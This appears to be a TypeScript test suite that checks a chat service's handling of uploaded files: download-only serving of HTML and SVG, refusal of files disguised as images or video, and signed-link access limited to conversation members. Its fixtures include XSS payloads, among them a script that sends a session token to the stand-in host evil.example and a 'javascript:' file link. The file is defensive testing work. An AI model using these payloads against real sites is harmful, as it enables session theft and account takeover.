/**
 * Chat files as a person (or an attacker) meets them: what an upload may be, how the browser is
 * told to treat it, and who can open it. The SDK uploads and sends as the widget does; links are
 * opened with plain fetch, as a browser tab or an <img> would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TYPES, type LastMessage } from '@zp/chat-sdk';
import { rows, sql } from '../../db/index.js';
import { startServer, type TestServer } from '../../../test/helpers.js';
import { samples } from '../../../test/uploads.js';
import { signedServerUrl } from '../files/public.js';
import { RawClient, chatUsers, sdkClient, type ChatUser, type SdkClient } from '../../../test/chat.js';
import { CHAT_LINK_TTL_SECONDS } from './files.js';

let srv: TestServer;
let users: ChatUser[];
const clients: SdkClient[] = [];
async function client(u: ChatUser) {
  const c = await sdkClient(srv.url, u);
  clients.push(c);
  return c;
}

/** Pages that, opened on the site's origin, would read the session. */
const HTML = '<!doctype html><html><body><script>new Image().src="https://evil.example/?t="+localStorage["zp:session"]</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage[\'zp:session\'])"><script>alert(document.domain)</script></svg>';
/** The start of an MP4 (an ftyp box), padded. */
const MP4 = Buffer.concat([Buffer.from('000000186674797069736f6d0000020069736f6d6d703431', 'hex'), Buffer.alloc(4096 - 24)]);

const file = (bytes: Buffer | string, name: string) => new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name);

async function upload(u: ChatUser, kind: string, name: string, bytes: Buffer | string) {
  const res = await fetch(`${srv.url}/api/chat/upload?kind=${kind}&name=${encodeURIComponent(name)}`, {
    method: 'POST',
    headers: { 'content-type': 'application/octet-stream', 'x-chat-user': u.userId, 'x-chat-sig': u.userSig },
    body: typeof bytes === 'string' ? bytes : new Uint8Array(bytes),
  });
  return (await res.json()) as { code: number; msg: string; url: string };
}

/** Where the payload of a file, video, sound or image message carries its link. */
interface FilePayload {
  fileUrl?: string;
  videoUrl?: string;
  url?: string;
  imageInfoArray?: { url: string }[];
}

/** The link of a file message as the receiver reads it in the history. */
async function receivedUrl(receiver: SdkClient, conversationID: string, id: string): Promise<string> {
  const list = (await receiver.chat.getMessageList({ conversationID })).data.messageList;
  const m = list.find((x) => x.ID === id);
  if (!m) throw new Error(`message ${id} not in ${conversationID}`);
  const p = m.payload as FilePayload;
  return p.fileUrl ?? p.videoUrl ?? p.url ?? p.imageInfoArray![0].url;
}

const plain = (url: string) => url.split('?')[0];
const open = (url: string, token?: string, headers: Record<string, string> = {}) => fetch(url, { headers: { ...headers, ...(token ? { token } : {}) }, redirect: 'manual' });

beforeAll(async () => {
  srv = await startServer();
  users = await chatUsers(srv, 6);
}, 180_000);
afterAll(async () => {
  for (const c of clients) await c.chat.logout().catch(() => undefined);
  await srv?.close();
});

describe('what a chat upload may be, and how it is served', () => {
  it('a planted .html or .svg sent as a file is served only as a download, never as a page of the site', async () => {
    const [a, b] = [await client(users[0]), await client(users[1])];
    for (const [name, body] of [['招聘简章.html', HTML], ['logo.svg', SVG], ['data.xml', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'], ['app.js', 'alert(1)']]) {
      const m = a.chat.createFileMessage({ to: users[1].userId, conversationType: TYPES.CONV_C2C, payload: { file: file(body, name) } });
      await a.chat.sendMessage(m);
      const url = await receivedUrl(b, `C2C${users[0].userId}`, m.ID);
      expect(url.startsWith(`${srv.url}/api/files/chat/`)).toBe(true);
      const res = await open(url);
      expect(res.status, name).toBe(200);
      expect(res.headers.get('content-type'), name).toBe('application/octet-stream');
      expect(res.headers.get('content-disposition'), name).toMatch(/^attachment; /);
      expect(res.headers.get('content-disposition'), name).toContain(`filename*=UTF-8''${encodeURIComponent(name)}`);
      expect(res.headers.get('x-content-type-options'), name).toBe('nosniff');
      expect(await res.text()).toBe(body);
    }
  });

  it('an image or video must be one by its content: svg, html and other formats dressed as images are refused', async () => {
    const a = await client(users[0]);
    const to = users[1].userId;
    const cases: [ReturnType<typeof file>, 'image' | 'video', string][] = [
      [file(SVG, 'logo.svg'), 'image', '不支持的图片格式'],
      [file(HTML, 'photo.png'), 'image', '不支持的图片格式'],
      [file(samples.pdf(), 'photo.jpg'), 'image', '（实际为 pdf）'],
      [file(HTML, 'intro.mp4'), 'video', '不支持的视频格式'],
      [file(samples.png(), 'intro.mp4'), 'video', '（实际为 png）'],
    ];
    for (const [f, kind, msg] of cases) {
      const m = kind === 'image' ? a.chat.createImageMessage({ to, conversationType: TYPES.CONV_C2C, payload: { file: f } }) : a.chat.createVideoMessage({ to, conversationType: TYPES.CONV_C2C, payload: { file: f } });
      const err = await a.chat.sendMessage(m).then(() => null, (e) => e);
      expect(err, f.name).toMatchObject({ code: 400 });
      expect(String(err.message), f.name).toContain(msg);
      expect(m.status).toBe('fail');
    }
    // nothing of the refused uploads was kept
    const kept = await rows(srv.app.services.db, sql`select 1 from files where kind = 60 and owner_id = ${users[0].userId} and mime <> 'application/octet-stream' and mime not like 'image/%' and mime <> 'video/mp4'`);
    expect(kept).toHaveLength(0);
    expect((await upload(users[0], 'image', 'x.svg', SVG)).code).toBe(400);
    expect((await upload(users[0], 'sound', 'x.mp3', HTML)).code).toBe(400);
  });

  it('images and mp4 keep their type and open inline; video answers ranges', async () => {
    const [a, b] = [await client(users[0]), await client(users[1])];
    const to = users[1].userId;
    const img = a.chat.createImageMessage({ to, conversationType: TYPES.CONV_C2C, payload: { file: file(samples.png(), '截图.png') } });
    const video = a.chat.createVideoMessage({ to, conversationType: TYPES.CONV_C2C, payload: { file: file(MP4, '自我介绍.mp4') } });
    await a.chat.sendMessage(img);
    await a.chat.sendMessage(video);
    const imgRes = await open(await receivedUrl(b, `C2C${users[0].userId}`, img.ID));
    expect(imgRes.status).toBe(200);
    expect(imgRes.headers.get('content-type')).toBe('image/png');
    expect(imgRes.headers.get('content-disposition')).toMatch(/^inline; /);
    expect(imgRes.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await imgRes.arrayBuffer())).toEqual(samples.png());
    const part = await open(await receivedUrl(b, `C2C${users[0].userId}`, video.ID), undefined, { range: 'bytes=0-99' });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-type')).toBe('video/mp4');
    expect(part.headers.get('content-range')).toBe('bytes 0-99/4096');
    expect((await part.arrayBuffer()).byteLength).toBe(100);
  });

  it('the old address of chat files serves nothing', async () => {
    const r = await upload(users[0], 'file', 'a.txt', 'x');
    const rel = r.url.split('/api/files/chat/')[1].split('?')[0];
    expect((await open(`${srv.url}/api/chat/files/${rel}`)).status).toBe(404);
  });
});

describe('who may open a chat file', () => {
  it('only the two of a conversation: no link without a signature, none for a stranger, none to be taken into another conversation', async () => {
    const [a, b, c] = [await client(users[2]), await client(users[3]), await client(users[4])];
    const [ua, ub, uc] = [users[2], users[3], users[4]];
    const m = a.chat.createImageMessage({ to: ub.userId, conversationType: TYPES.CONV_C2C, payload: { file: file(samples.png(), '工牌.png') } });
    await a.chat.sendMessage(m);
    const url = await receivedUrl(b, `C2C${ua.userId}`, m.ID);

    // the member's signed link opens it; the bare address does not, for nobody logged in…
    expect((await open(url)).status).toBe(200);
    const bare = await open(plain(url));
    expect(bare.status).toBe(403);
    expect(bare.headers.get('x-content-type-options')).toBe('nosniff');
    expect(((await bare.json()) as { code: number }).code).toBe(403);
    // …nor for a stranger's session; the two members' sessions open it
    expect((await open(plain(url), uc.token)).status).toBe(403);
    expect((await open(plain(url), ub.token)).status).toBe(200);
    expect((await open(plain(url), ua.token)).status).toBe(200);
    // a forged or expired signature is no signature
    const u = new URL(url);
    const forged = `${plain(url)}?e=${u.searchParams.get('e')}&s=${'0'.repeat(64)}`;
    expect((await open(forged)).status).toBe(403);
    const key = decodeURIComponent(u.pathname.slice('/api/files/'.length));
    const past = Math.floor(Date.now() / 1000) - 10;
    expect((await open(signedServerUrl(srv.app.services.config, srv.app.services.secret, key, past))).status).toBe(403);

    // the stranger never reads the link: their conversation with the sender has no such message
    const theirs = (await c.chat.getMessageList({ conversationID: `C2C${ua.userId}` })).data.messageList;
    expect(theirs.some((x) => x.ID === m.ID)).toBe(false);
    // and cannot take the file into a conversation of theirs to get a link that way
    const raw = new RawClient(srv.url);
    expect((await raw.call('auth', { userID: uc.userId, userSig: uc.userSig, instance: 'files-test-raw', login: true })).code).toBe(0);
    const image = (u: string) => ({ imageInfoArray: [{ url: u, width: 1, height: 1, size: 1, type: 0 }] });
    const steal = await raw.call('send', { ID: `${uc.userId}-steal-1`, conversationType: 'C2C', to: uc.userId === ua.userId ? ub.userId : ua.userId, type: 'TIMImageElem', payload: image(plain(url)) });
    expect(steal).toMatchObject({ code: 10004 });
    expect((await open(plain(url), uc.token)).status).toBe(403);
    // links to anything but the sender's own chat files are refused too
    for (const other of ['https://evil.example/x.png', `${srv.url}/api/files/resume/1/202501/${'a'.repeat(32)}/cv.pdf`, `${srv.url}/zppc/`]) {
      const r = await raw.call('send', { ID: `${uc.userId}-ext-${other.length}`, conversationType: 'C2C', to: ua.userId, type: 'TIMImageElem', payload: image(other) });
      expect(r, other).toMatchObject({ code: 10004 });
    }
    const fileMsg = await raw.call('send', { ID: `${uc.userId}-ext-file`, conversationType: 'C2C', to: ua.userId, type: 'TIMFileElem', payload: { fileName: 'x.html', fileUrl: 'javascript:alert(1)//', fileSize: 1 } });
    expect(fileMsg.code).not.toBe(0);
    raw.close();

    // a member may pass it on; then the new conversation's members may open it
    const fwd = await raw2(ub).then(async (r) => {
      const res = await r.call('send', { ID: `${ub.userId}-forward-1`, conversationType: 'C2C', to: uc.userId, type: 'TIMImageElem', payload: image(url) });
      r.close();
      return res;
    });
    expect(fwd.code).toBe(0);
    expect((fwd.data!.message.payload as FilePayload).imageInfoArray![0].url).toMatch(/\?e=\d+&s=[0-9a-f]{64}$/);
    expect((await open(plain(url), uc.token)).status).toBe(200);
  });

  it('in a group: its members, not others', async () => {
    const [owner, member] = [await client(users[0]), await client(users[5])];
    const g = (await owner.chat.createGroup({ name: '校招资料群', type: TYPES.GRP_WORK, memberList: [{ userID: users[5].userId }] })).data.group;
    const m = owner.chat.createFileMessage({ to: g.groupID, conversationType: TYPES.CONV_GROUP, payload: { file: file(samples.pdf(), '宣讲会日程.pdf') } });
    await owner.chat.sendMessage(m);
    const url = await receivedUrl(member, `GROUP${g.groupID}`, m.ID);
    expect((await open(url)).headers.get('content-disposition')).toMatch(/^attachment; /);
    expect((await open(plain(url), users[5].token)).status).toBe(200);
    expect((await open(plain(url), users[1].token)).status).toBe(403);
    // having left, a former member's session no longer opens it
    await member.chat.quitGroup(g.groupID);
    expect((await open(plain(url), users[5].token)).status).toBe(403);
  });

  it('messages keep a stable reference; every read hands out a link signed for a week, the same all day', async () => {
    const [a, b] = [await client(users[0]), await client(users[1])];
    const m = a.chat.createFileMessage({ to: users[1].userId, conversationType: TYPES.CONV_C2C, payload: { file: file('面试安排', '安排.txt') } });
    await a.chat.sendMessage(m);
    // the sender's own copy already carries a working link
    expect((await open((m.payload as FilePayload).fileUrl!)).status).toBe(200);
    const stored = await rows<{ payload: { fileUrl: string } }>(srv.app.services.db, sql`select payload from chat_messages where id = ${m.ID}`);
    expect(stored[0].payload.fileUrl).toMatch(/\/api\/files\/chat\/[^?]+$/);
    const first = await receivedUrl(b, `C2C${users[0].userId}`, m.ID);
    const again = await receivedUrl(b, `C2C${users[0].userId}`, m.ID);
    expect(again).toBe(first);
    const e = Number(new URL(first).searchParams.get('e'));
    expect(e).toBeGreaterThanOrEqual(Date.now() / 1000 + CHAT_LINK_TTL_SECONDS);
    expect(e % 86400).toBe(0);
    // the conversation list's last message too
    const conv = (await b.chat.getConversationList()).data.conversationList.find((c) => c.conversationID === `C2C${users[0].userId}`)!;
    expect((conv.lastMessage as LastMessage).payload.fileUrl).toBe(first);
  });
});

/** A bare client logged in as `u` (to send what the SDK would send after an upload). */
async function raw2(u: ChatUser): Promise<RawClient> {
  const r = new RawClient(srv.url);
  const a = await r.call('auth', { userID: u.userId, userSig: u.userSig, instance: `files-test-${u.userId}`, login: true });
  if (a.code !== 0) throw new Error(JSON.stringify(a));
  return r;
}
